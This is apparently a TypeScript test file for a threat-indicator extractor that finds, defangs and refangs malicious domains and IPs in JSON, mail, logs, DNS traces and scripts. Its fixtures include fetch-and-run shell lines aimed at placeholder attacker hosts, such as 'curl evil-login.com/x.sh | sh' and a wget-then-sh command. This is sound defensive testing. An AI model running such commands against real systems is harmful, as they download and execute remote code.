import assert from 'node:assert/strict';
import { defang, detect, parseIndicator, refang } from '../../../../src/core/indicator/index';

/** A text as it stands in a file, with what is found in it; `~` marks a find that is weak. */
type Row = readonly [text: string, ...found: string[]];

interface Kind {
  readonly name: string;
  readonly languageId?: string;
  readonly rows: readonly Row[];
}

const KINDS: readonly Kind[] = [
  {
    name: 'escapes in JSON',
    languageId: 'json',
    rows: [
      [String.raw`{"u":"http:\/\/evil-login.ru\/gate.php"}`, 'evil-login.ru'],
      [String.raw`{"u":"hxxps:\/\/evil-login[.]ru\/a"}`, 'evil-login.ru'],
      [String.raw`{"u":"http:\/\/bob:pw@evil-login.ru:8080\/a"}`, 'evil-login.ru'],
      [String.raw`{"t":"a\u003chttp://evil-login.ru\u003eb"}`, 'evil-login.ru'],
      [String.raw`{"t":"q=1\u0026host=evil-login.ru\u0026x"}`, 'evil-login.ru'],
      [String.raw`{"t":"\u0022bad-site.ru\u0022"}`, 'bad-site.ru'],
      [String.raw`{"t":"evil\u002elogin\u002eru"}`, 'evil.login.ru'],
      [
        String.raw`{"t":"evil.com\n192.0.2.7\tbad-site.ru\r\nother-c2.com"}`,
        'evil.com',
        '192.0.2.7',
        'bad-site.ru',
        'other-c2.com',
      ],
      [String.raw`{"t":"\n2001:db8::7\n"}`, '2001:db8::7'],
      [String.raw`{"path":"C:\\new\\table.com"}`],
      [String.raw`{"path":"\\\\files.evil-login.ru\\new"}`, 'files.evil-login.ru'],
      [
        String.raw`{"m":"{\"iocs\":\"evil-login.ru\\nbad-site.ru\"}"}`,
        'evil-login.ru',
        'bad-site.ru',
      ],
      [String.raw`{"m":"{\"u\":\"http:\\\/\\\/evil-login.ru\\\/a\"}"}`, 'evil-login.ru'],
      [String.raw`{"t":"see C:\\Temp\nevil-login.ru"}`, 'evil-login.ru'],
    ],
  },
  {
    name: 'escapes in source code',
    languageId: 'python',
    rows: [
      [String.raw`hosts = "evil-login.ru\nbad-site.ru\n"`, 'evil-login.ru~', 'bad-site.ru~'],
      [String.raw`data = 'GET / HTTP/1.1\r\nHost: evil-login.com\r\n\r\n'`, 'evil-login.com~'],
      [String.raw`u = 'http:\x2f\x2fevil-login.ru\x2fa'`, 'evil-login.ru'],
      [String.raw`p = 'C:\new\table.com'`],
    ],
  },
  {
    name: 'escapes in logs',
    languageId: 'log',
    rows: [
      [
        String.raw`10:00 INFO {"msg":"C2:\nevil-login.ru\nbad-site.ru"}`,
        'evil-login.ru',
        'bad-site.ru',
      ],
      [String.raw`10:00 INFO {"url":"https:\/\/evil-login.ru\/a","n":1}`, 'evil-login.ru'],
      [String.raw`10:00 found evil-login.ru\r\nbad-site.ru`, 'evil-login.ru', 'bad-site.ru'],
      [String.raw`10:00 one\nevil-login.ru\nbad-site.ru`, 'evil-login.ru', 'bad-site.ru'],
      [String.raw`10:00 ran C:\new\tools\evil.com`],
      [String.raw`10:00 ran "C:\new\tools\evil.com" -x`],
      [String.raw`10:00 ran %TEMP%\net.com and ..\tree.com`],
      [String.raw`10:00 key HKLM\Software\new.com`],
    ],
  },
  {
    name: 'quoted-printable mail',
    rows: [
      ['<a href=3D"http://gallery.evil-lo=\ngin.com/a">', 'gallery.evil-login.com'],
      ['<a href=3D"http://gallery.evil-lo=\r\ngin.com/a">', 'gallery.evil-login.com'],
      ['see http://login.evil-bank.co=\nm/path', 'login.evil-bank.com'],
      ['write to bob@evil-lo=\ngin.com', 'evil-login.com'],
      ['see https://=\nlogin.evil-bank.com/path', 'login.evil-bank.com'],
      ['mail to bob=40evil-login=2Ecom =3D yes', 'evil-login.com'],
      ['http:=2F=2Fevil-login=2Eru=2Fa =3D', 'evil-login.ru'],
      ['address =3D 192.0.2=\n.7 and 198.51.100=2E7', '192.0.2.7', '198.51.100.7'],
      ['=3D a.evil-lo=\ngin.co=\nm b', 'a.evil-login.com'],
      [`${'x'.repeat(30)} evil-login.co=\nm is bad`],
      [`${'x'.repeat(61)} evil-login.c=\nom is bad`, 'evil-login.com'],
      ['a=20evil-login.com=20b =2E', 'evil-login.com'],
      // Settings without a value, and URLs whose query ends so.
      ['first=\nevil-login.com\nsecond=\nbad-site.com', 'evil-login.com', 'bad-site.com'],
      ['http://evil-login.com/?q=\nbad-site.com', 'evil-login.com', 'bad-site.com'],
      ['host=22.33.44.55 and port=20.1.2.3', '22.33.44.55', '20.1.2.3'],
    ],
  },
  {
    name: 'addresses in IPv6 notation',
    rows: [
      ['::ffff:192.0.2.7', '192.0.2.7'],
      ['from ::ffff:c000:207, port 80', '192.0.2.7'],
      ['[::ffff:192.0.2.7]:443', '192.0.2.7'],
      ['http://[::ffff:192.0.2.7]/a', '192.0.2.7'],
      ['0:0:0:0:0:FFFF:192.0.2.7', '192.0.2.7'],
      ['::ffff[:]192[.]0[.]2[.]7', '192.0.2.7'],
      ['peer=::ffff:192.0.2.7:52341', '192.0.2.7'],
      ['Received: from [IPv6:::ffff:192.0.2.7] (unknown)', '192.0.2.7'],
      ['Received: from [IPv6:2001:db8::7] (unknown)', '2001:db8::7'],
      ['Received: from [IPv6:::1]', '::1'],
      ['64:ff9b::192.0.2.7', '64:ff9b::c000:207'],
    ],
  },
  {
    name: 'encoded and rewritten links',
    rows: [
      ['http%3A%2F%2Fevil-login.news%2Fa', 'evil-login.news'],
      ['http%253A%252F%252Fevil-login.ru%252Fa', 'evil-login.ru'],
      ['https%25253a%25252f%25252fevil-login.ru', 'evil-login.ru'],
      ['https://a.com/?u=http%253A%252F%252Fevil-login.ru%252Fa', 'a.com', 'evil-login.ru'],
      [
        'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil-login.ru%2Fa&data=05%7C01%7Cbob%40corp.com%7C1',
        'eur01.safelinks.protection.outlook.com',
        'evil-login.ru',
        'corp.com',
      ],
      [
        'https://urldefense.proofpoint.com/v2/url?u=https-3A__evil-2Dlogin.ru_a-3Fb-3D1&d=x',
        'urldefense.proofpoint.com',
        'evil-login.ru',
      ],
      [
        'https://urldefense.proofpoint.com/v2/url?u=http-3A__192.0.2.7_a&d=x',
        'urldefense.proofpoint.com',
        '192.0.2.7',
      ],
      [
        'https://urldefense.com/v3/__https://evil-login.ru/a__;!!Abc!x$',
        'urldefense.com',
        'evil-login.ru',
      ],
      [
        'https://urldefense.com/v3/__https://evil-login.ru__;!!Abc!x$',
        'urldefense.com',
        'evil-login.ru',
      ],
      [
        'https://www.google.com/url?q=https://evil-login.ru/a&sa=D',
        'www.google.com',
        'evil-login.ru',
      ],
      [
        'https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil-login.ru&c=E,1',
        'linkprotect.cudasvc.com',
        'evil-login.ru',
      ],
    ],
  },
  {
    name: 'names as DNS sends them',
    rows: [
      ['Q [0001 D NOERROR] A (3)www(10)evil-login(2)ru(0)', 'www.evil-login.ru'],
      ['(4)evil(3)com(0) and (3)bad(2)ru(0)', 'evil.com', 'bad.ru'],
      ['content:"|04|evil|02|ru|00|"; nocase;', 'evil.ru'],
      ['content:"|04|evil|02|ru"; nocase;', 'evil.ru'],
      ['content:"|03|www|0a|evil-login|02|ru|00 00 01|"', 'www.evil-login.ru'],
      ['f(2)abc(0) and g(10)ru(0)'],
      ['(5)evil(2)ru(0)'],
    ],
  },
  {
    name: 'hosts in lists under the endings of files and members',
    rows: [
      [
        'first-host.com\ndaily-sport.news\nlast-host.net',
        'first-host.com',
        'daily-sport.news',
        'last-host.net',
      ],
      [
        'first-host.com\ntechdeliver.cc\nhot-sale.sale\nlast-host.net',
        'first-host.com',
        'techdeliver.cc',
        'hot-sale.sale',
        'last-host.net',
      ],
      ['192.0.2.7\nmicro.services\n', '192.0.2.7', 'micro.services'],
      [
        'hxxp://evil[.]com/a\n- redirecting.page\n- bad-site.rs',
        'evil.com',
        'redirecting.page',
        'bad-site.rs',
      ],
      ['domain,techdeliver.cc,malware', 'techdeliver.cc'],
      ['host,first seen\ntechdeliver.cc,2024-01-01\n', 'techdeliver.cc'],
      ['| techdeliver.cc | 192.0.2.7 |', 'techdeliver.cc', '192.0.2.7'],
      ['redirecting.page', 'redirecting.page'],
      ['0.0.0.0 evil-login.cc', '0.0.0.0', 'evil-login.cc'],
      ['127.0.0.1 localhost bad-site.news # list', '127.0.0.1', 'bad-site.news'],
      ['Evil-login[.]rs', 'evil-login.rs'],
      ['Pcbbcrjcg[.]fantasyleague-x[.]cc', 'pcbbcrjcg.fantasyleague-x.cc'],
      ['||evil-login.cc^', 'evil-login.cc'],
      ['techdeliver.cc CNAME .', 'techdeliver.cc'],
      ['setup.py\nREADME.md\nmain.rs\nlib.cc'],
      ['drwxr-xr-x 2 root root main.rs\n-rw-r--r-- 1 root root techdeliver.cc'],
      ['main.cc'],
      ['index.html, style.css, loader.cc'],
    ],
  },
  {
    name: 'hosts in JSON under the endings of files and members',
    languageId: 'json',
    rows: [
      ['{"indicator": "appeur-x.gnway.cc"}', 'appeur-x.gnway.cc'],
      ['{"domain":"daily-sport.news"}', 'daily-sport.news'],
      ['{"domains": ["a-b.news", "hidden.page"]}', 'a-b.news', 'hidden.page'],
      ['{"value": "daily-sport.news"}', 'daily-sport.news~'],
      ['{"dns_query": "techdeliver.cc"}', 'techdeliver.cc'],
      ['{"type": "domain", "value": "techdeliver.cc"}', 'techdeliver.cc'],
      ['["first-host.com","techdeliver.cc"]', 'first-host.com', 'techdeliver.cc'],
      ['{"main": "setup.py", "files": ["README.md", "lib.rs"]}'],
      ['{"command": "editor.action.show", "view": "search.select"}'],
    ],
  },
  {
    name: 'whole values',
    rows: [
      ['  "value": "my-redirect.info",', 'my-redirect.info'],
      ['dns.query; content:"my-redirect.info"; nocase;', 'my-redirect.info'],
      ['<Data>my-redirect.info</Data>', 'my-redirect.info'],
      ['||my-redirect.top^', 'my-redirect.top'],
      ['@@||my-redirect.top^$document', 'my-redirect.top'],
      ['my-redirect.top CNAME .', 'my-redirect.top'],
      ['*.my-redirect.top 300 IN A 192.0.2.7', 'my-redirect.top', '192.0.2.7'],
      ['0.0.0.0 my-redirect.top', '0.0.0.0', 'my-redirect.top'],
      ['my-redirect.top - seen in mail', 'my-redirect.top'],
      ['- my-redirect.top (phishing)', 'my-redirect.top'],
      ['my-redirect.top # phishing', 'my-redirect.top'],
      ['domain=my-redirect.top action=block', 'my-redirect.top'],
      ['"my-redirect.top:8443"', 'my-redirect.top'],
      ['local-zone: "my-redirect.top" refuse', 'my-redirect.top'],
      ['so my-redirect.top it is', 'my-redirect.top~'],
    ],
  },
  {
    name: 'a slash in front',
    rows: [
      ['address=/evil-login.ru/0.0.0.0', 'evil-login.ru', '0.0.0.0'],
      [
        'server=/evil-login.news/bad-site.top/192.0.2.7',
        'evil-login.news',
        'bad-site.top',
        '192.0.2.7',
      ],
      ['local=/evil-login.com/', 'evil-login.com'],
      ['tcp inside/10.0.0.46(49734) -> outside/8.8.8.8(443)', '10.0.0.46', '8.8.8.8'],
      [
        'Built outbound TCP for Outside:192.0.2.7/443 to inside:10.1.0.5/52341',
        '192.0.2.7',
        '10.1.0.5',
      ],
      ['HIER_DIRECT/91.5.236.18 text/html', '91.5.236.18'],
      ['TCP_MISS/200 512 GET a - FIRSTUP_PARENT/10.0.0.5 -', '10.0.0.5'],
      ['from host/91.5.236.18:443', '91.5.236.18'],
      ['name-node.corp.internal/10.0.0.5:8020', 'name-node.corp.internal', '10.0.0.5'],
      ['to name-node.example.com/10.2.0.5 failed', 'name-node.example.com', '10.2.0.5'],
      ['ip-10-0-0-5/10.0.0.5:9000', '10.0.0.5'],
      ['Chrome/17.0.3.56 Safari/5.1.2.3'],
      ['curl/7.1.2.3'],
      ['see src/app.com and a/b.net/c.com'],
    ],
  },
  {
    name: 'an address or a host with the port behind a dot',
    rows: [
      [
        '12:34:56.789012 IP 10.0.0.5.52341 > 192.0.2.7.443: Flags [S], seq 1',
        '10.0.0.5',
        '192.0.2.7',
      ],
      ['12:34:56.789012 IP 10.0.0.5.52341 > 192.0.2.7.https: Flags [S]', '10.0.0.5', '192.0.2.7'],
      [
        '12:34:56.789012 IP 10.0.0.5.52341 > c2.evil-login.ru.443: Flags [S]',
        '10.0.0.5',
        'c2.evil-login.ru',
      ],
      [
        '12:34:56.789012 IP6 2001:db8::5.52341 > 2001:db8::7.443: Flags [S]',
        '2001:db8::5',
        '2001:db8::7',
      ],
      [
        'IP 10.0.0.5.53 > 192.0.2.7.53: 1+ A? evil-login.ru. (31)',
        '10.0.0.5',
        '192.0.2.7',
        'evil-login.ru',
      ],
      ['tcp4  0  0  10.0.0.5.52341  192.0.2.7.443  ESTABLISHED', '10.0.0.5', '192.0.2.7'],
      ['tcp6  0  0  2001:db8::5.52341  2001:db8::7.443  ESTABLISHED', '2001:db8::5', '2001:db8::7'],
      ['udp4  0  0  10.0.0.5.123  *.*', '10.0.0.5'],
      ['10.0.0.5.22  192.0.2.7.52341  64240  0  64240  0 TIME_WAIT', '10.0.0.5', '192.0.2.7'],
      ['1.2.3.4.5'],
      ['1.3.6.1.4.1 and 2.5.29.15.1'],
      ['version 1.2.3.4.5, then 10.0.0.1.300'],
    ],
  },
  {
    name: 'shares over HTTP',
    rows: [
      [String.raw`\\evil-login.ru@SSL\DavWWWRoot\a.lnk`, 'evil-login.ru'],
      [String.raw`\\evil-login.news@80\share\a.lnk`, 'evil-login.news'],
      [String.raw`\\evil-login.top@SSL@8443\a`, 'evil-login.top'],
      [String.raw`\\192.0.2.7@80\share\a.url`, '192.0.2.7'],
      [String.raw`net use \\evil-login.ru@ssl\x`, 'evil-login.ru'],
      ['bob@80 and evil@ssl'],
    ],
  },
  {
    name: 'versions of programs',
    rows: [
      ['(192.0.2.7) with Microsoft SMTP Server (TLS) id 15.1.225.42; Thu', '192.0.2.7'],
      [' with mapi id 15.1.225.42; Thu'],
      ['\tid 15.1.225.42 via Frontend Transport; Thu'],
      ['X-Mailer: Microsoft Outlook 16.0.1.2'],
      ['User-Agent: Thunder Bird 91.5.1.2'],
      ['"GET /a HTTP/1.1" 200 12 "-" "WhatsApp/2.20.193.9 A"'],
      ['"Mozilla/5.0 (Linux; Android 9) Snap 10.20.5.80" 192.0.2.7', '192.0.2.7'],
      ['Instagram 10.26.0.1 Android (23/6.0; 640dpi)'],
      ['"okhttp/4.20.1.2"'],
      ['User-Agent: okhttp/4.20.1.2'],
      ['(Exim 4.92.3.1)'],
      ['router id 10.1.1.1', '10.1.1.1'],
      ['client id 192.0.2.7', '192.0.2.7'],
    ],
  },
  {
    name: 'encoded bytes',
    rows: [
      ["M24T^M\nM:U.<==;'\\MCOT?!A2[3[.]MY#-;7.)\n"],
      ["M*%]?0`A3.MY'!(V;^@+=$7<(#;/A&\n"],
      ['9jqo^BlbD-BleB1DJ+*+F(f,q/0J.MYhF<G#)!@<N=U\n'],
      ["%$3)A@q.co;'<?+!#~\n"],
      ['<a href="http://t.co/a?b=c&d=e#f">ab.co</a>', 't.co', 'ab.co'],
    ],
  },
  {
    name: 'shell scripts',
    languageId: 'shellscript',
    rows: [
      ['curl evil-login.com/x.sh | sh', 'evil-login.com'],
      ['nslookup evil-login.com', 'evil-login.com'],
      ['C2=evil-login.ru', 'evil-login.ru'],
      ['wget -q http://evil-login.ru/a.sh -O /tmp/a.sh && sh /tmp/a.sh', 'evil-login.ru'],
      ['ping -c 1 192.0.2.7', '192.0.2.7'],
      ['sh setup.sh && python3 main.py $x.com'],
    ],
  },
  {
    name: 'scripts with members',
    languageId: 'powershell',
    rows: [
      ["$c2 = 'evil-login.top'", 'evil-login.top~'],
      ['$c2 = "evillogin.news"', 'evillogin.news~'],
      ["Invoke-WebRequest -Uri 'evil-login.com/a'", 'evil-login.com'],
      ['ping evil-login.com', 'evil-login.com'],
      ['$x = $item.name; $y = $file.Length'],
    ],
  },
  {
    name: 'strings of JavaScript',
    languageId: 'javascript',
    rows: [
      ["const c2 = 'evil-login.top';", 'evil-login.top~'],
      ['const host = "evillogin.xyz";', 'evillogin.xyz~'],
      ["fetch('evil-login.info/a')", 'evil-login.info~'],
      ['const a = person.name + labels.map;'],
      ["import x from 'my-module.py';"],
    ],
  },
];

const found = (text: string, languageId?: string): string[] =>
  detect(text, languageId === undefined ? {} : { languageId }).map(
    ({ value, grade }) => value + (grade === 'weak' ? '~' : ''),
  );

describe('texts as they stand in files', () => {
  for (const { name, languageId, rows } of KINDS) {
    it(`reads ${name}`, () => {
      for (const [text, ...expected] of rows) {
        assert.deepEqual(found(text, languageId), expected, text);
        for (const { start, end, value } of detect(
          text,
          languageId === undefined ? {} : { languageId },
        )) {
          const raw = text.slice(start, end);
          const rewritten = /-[0-9A-F]{2}/.test(raw);
          if (!rewritten) assert.equal(parseIndicator(raw)?.value, value, raw);
        }
      }
    });
  }

  it('covers what is encoded inside a name', () => {
    for (const [text, raw] of [
      ['=3D http://a.evil-lo=\ngin.com/a', 'a.evil-lo=\ngin.com'],
      ['=3D http://a.evil.=\ncom/a', 'a.evil.=\ncom'],
      ['=3D http://=\na.evil.com=\n/a', 'a.evil.com'],
      [String.raw`"evil\u002ecom\n"`, String.raw`evil\u002ecom`],
      [String.raw`"\u003eevil.com\u003c"`, 'evil.com'],
      ['(3)www(4)evil(2)ru(0)', 'www(4)evil(2)ru'],
    ] as const) {
      assert.deepEqual(
        detect(text).map(({ start, end }) => text.slice(start, end)),
        [raw],
      );
    }
  });

  it('finds the same in a long text, whatever stands in front', () => {
    const cut = '<a href=3D"http://gallery.evil-lo=\ngin.com/a">\n';
    const text = cut.repeat(4000);
    const all = detect(text);
    assert.equal(all.length, 4000);
    assert.ok(all.every(({ value }) => value === 'gallery.evil-login.com'));
  });

  it('writes what is encoded inert, and back', () => {
    for (const [text, inert] of [
      [
        String.raw`{"u":"http:\/\/evil-login.ru\/a"}`,
        String.raw`{"u":"hxxp:\/\/evil-login[.]ru\/a"}`,
      ],
      [
        '<a href=3D"http://a.evil-lo=\ngin.com/a">',
        '<a href=3D"hxxp://a[.]evil-lo=\ngin[.]com/a">',
      ],
      ['from ::ffff:192.0.2.7, port 80', 'from [:][:]ffff[:]192.0.2.7, port 80'],
    ] as const) {
      assert.equal(defang(text), inert);
      assert.equal(refang(inert), text);
    }
  });

  it('undoes schemes however they are written', () => {
    for (const scheme of [
      'h[tt]p',
      'h00p',
      'h(tt)p',
      'h[xx]p',
      '[h]ttp',
      'hxxp',
      'h**p',
      'ht[t]p',
    ]) {
      assert.equal(refang(`${scheme}://www[.]evil[.]ru/a`), 'http://www.evil.ru/a', scheme);
      assert.equal(
        refang(`see ${scheme}s://www[.]evil[.]ru/a`),
        'see https://www.evil.ru/a',
        scheme,
      );
    }
  });
});

describe('more than one indicator', () => {
  it('is not one', () => {
    for (const text of [
      '192.0.2.7, bob@evil-login.ru',
      '192.0.2.7 seen at evil-login.ru',
      '192.0.2.7 at evil-login.ru',
      'evil.com bob@evil-login.ru',
      'evil.com;bob@evil-login.ru',
      'http://evil.com/ bob@evil-login.ru',
      '192.0.2.7|443 bob@evil-login.ru',
    ]) {
      assert.equal(parseIndicator(text), undefined, text);
    }
  });

  it('is an e-mail address with a name in front', () => {
    for (const text of ['Bob <bob@evil.com>', '"Smith, Bob" <bob@evil.com>', '<bob@evil.com>']) {
      assert.equal(parseIndicator(text)?.value, 'evil.com', text);
    }
  });

  it('takes a number behind a slash for a port where it is no prefix', () => {
    assert.equal(parseIndicator('192.0.2.7/443')?.value, '192.0.2.7');
    assert.equal(parseIndicator('192.0.2.7/80')?.value, '192.0.2.7');
    assert.equal(parseIndicator('192.0.2.7/24'), undefined);
    assert.equal(parseIndicator('192.0.2.7/8'), undefined);
  });
});
